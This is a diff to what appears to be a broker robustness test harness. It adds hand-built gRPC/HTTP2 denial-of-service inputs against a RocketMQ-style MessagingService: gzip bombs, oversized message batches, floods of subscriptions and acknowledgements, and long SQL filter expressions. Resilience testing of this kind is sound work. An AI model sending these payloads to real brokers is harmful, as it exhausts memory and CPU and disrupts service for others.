@@ -17,6 +17,7 @@ from hpack import Encoder
 
 from protocols.coap import message as coap
 from protocols.coap import option
+from protocols.grpc.messages import messaging_pb2 as pb
 from protocols.mqtt.connect import Connect
 from protocols.mqtt.packet import Packet, Ping, encode
 from protocols.mqtt.property import NONE
@@ -109,6 +110,69 @@ _UPGRADE = (
     b"sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-version: 13\r\nsec-websocket-protocol: mqtt\r\n\r\n"
 )
 
+_SERVICE = "/apache.rocketmq.v2.MessagingService/"
+
+
+def _calls(method: str, *messages: bytes, ends: bool = True, fields: tuple[tuple[str, str], ...] = ()) -> bytes:
+    """One connection with a gRPC call for each message, after HELLO and a wide window for answers."""
+    encoder = Encoder()
+    pairs = [(":method", "POST"), (":scheme", "http"), (":authority", "n"), (":path", _SERVICE + method), *_GRPC, *fields]
+    pairs.append(("x-mq-client-id", "bad"))
+    flag = 1 if fields else 0
+    parts = [_HELLO, _h2(8, 0, 0, b"\x3f\xff\0\0")]
+    for at, message in enumerate(messages):
+        data = bytes([flag]) + len(message).to_bytes(4, "big") + message
+        pieces = [data[start : start + 16_384] for start in range(0, len(data), 16_384)]
+        parts.append(_h2(1, 4, 2 * at + 1, encoder.encode(pairs)))
+        parts += [_h2(0, 0, 2 * at + 1, piece) for piece in pieces[:-1]]
+        parts.append(_h2(0, 1 if ends else 0, 2 * at + 1, pieces[-1]))
+    return b"".join(parts)
+
+
+def _batch(count: int, body: bytes = b"x", packed: bool = False, keys: int = 0) -> bytes:
+    request = pb.SendMessageRequest()
+    for number in range(count):
+        sent = request.messages.add(body=body)
+        sent.topic.name = "flood"
+        sent.system_properties.message_id = f"{number:032x}"
+        sent.system_properties.keys.extend(["k"] * keys)
+        if packed:
+            sent.system_properties.body_encoding = pb.GZIP
+    return bytes(request.SerializeToString())
+
+
+def _settings(subscriptions: int, expression: str = "") -> bytes:
+    command = pb.TelemetryCommand()
+    command.settings.client_type = pb.SIMPLE_CONSUMER
+    command.settings.subscription.group.name = "bad"
+    for number in range(subscriptions):
+        entry = command.settings.subscription.subscriptions.add()
+        entry.topic.name = f"s{number}"
+        entry.expression.type = pb.SQL if expression else pb.TAG
+        entry.expression.expression = expression or "*"
+    return bytes(command.SerializeToString())
+
+
+def _poll(expression: str) -> bytes:
+    request = pb.ReceiveMessageRequest(batch_size=32)
+    request.group.name = "bad"
+    request.message_queue.topic.name = "flood"
+    request.invisible_duration.seconds = 30
+    request.filter_expression.type = pb.SQL
+    request.filter_expression.expression = expression
+    return bytes(request.SerializeToString())
+
+
+def _acknowledgement(entries: int) -> bytes:
+    request = pb.AckMessageRequest()
+    request.group.name = request.topic.name = "flood"
+    for number in range(entries):
+        request.entries.add(message_id="m", receipt_handle=f"h{number}")
+    return bytes(request.SerializeToString())
+
+
+_ZEROS = gzip.compress(bytes(4 << 20))
+
 ATTACKS: dict[str, Attack] = {
     "remoting: requests": Attack("remoting", b"", _ASK * 2_000),
     "remoting: answers never read": Attack("remoting", b"", _ASK * 2_000, 20, reads=False),
@@ -122,6 +186,20 @@ ATTACKS: dict[str, Attack] = {
     "gRPC: one-byte data": Attack("grpc", _HELLO + _heads(1, False, *_GRPC), _h2(0, 0, 1, b"x") * 5_000),
     "gRPC: inflated body": Attack("grpc", _HELLO + _heads(1, False, *_GRPC, ("grpc-encoding", "gzip")) + b"".join(
         [_h2(0, 0, 1, _CALL[at : at + 16_000]) for at in range(0, len(_CALL), 16_000)]), renews=True),
+    "gRPC: settings of many subscriptions": Attack("grpc", _calls("Telemetry", *[_settings(1_000)] * 60), renews=True),
+    "gRPC: settings with long expressions": Attack(
+        "grpc", _calls("Telemetry", *[_settings(1, f"a > {each} AND " * 200 + "b = 1") for each in range(60)]), renews=True),
+    "gRPC: small settings on one stream": Attack("grpc", _calls("Telemetry", b"", ends=False) + b"".join(
+        [_h2(0, 0, 1, (b"\0" + len(_settings(0)).to_bytes(4, "big") + _settings(0)) * 400)] * 60), renews=True),
+    "gRPC: batches": Attack("grpc", _calls("SendMessage", *[_batch(512)] * 40), b"", 4, renews=True),
+    "gRPC: batches over the bound": Attack("grpc", _calls("SendMessage", *[_batch(15_000)] * 7), renews=True),
+    "gRPC: compressed bodies": Attack("grpc", _calls("SendMessage", *[_batch(1, _ZEROS, True)] * 60), b"", 4, renews=True),
+    "gRPC: compressed requests without an end": Attack("grpc", _calls(
+        "SendMessage", *[gzip.compress(_batch(1, bytes(4 << 20)))] * 100, ends=False, fields=(("grpc-encoding", "gzip"),)),
+        b"", 20),
+    "gRPC: acknowledgements": Attack("grpc", _calls("AckMessage", *[_acknowledgement(500)] * 60), renews=True),
+    "gRPC: polls with long expressions": Attack("grpc", _calls(
+        "ReceiveMessage", *[_poll(f"a > {each} AND " * 200 + "b = 1") for each in range(100)]), b"", 4, renews=True),
     "MQTT: tiny messages": Attack("mqtt", _CONNECT, _publish("flood/a", 1) * 2_000),
     "MQTT: topics made for one message": Attack("mqtt", _CONNECT + b"".join(
         [_publish(f"made{number}/x", 1) for number in range(1_000)]), _publish("made1/x", 1)),
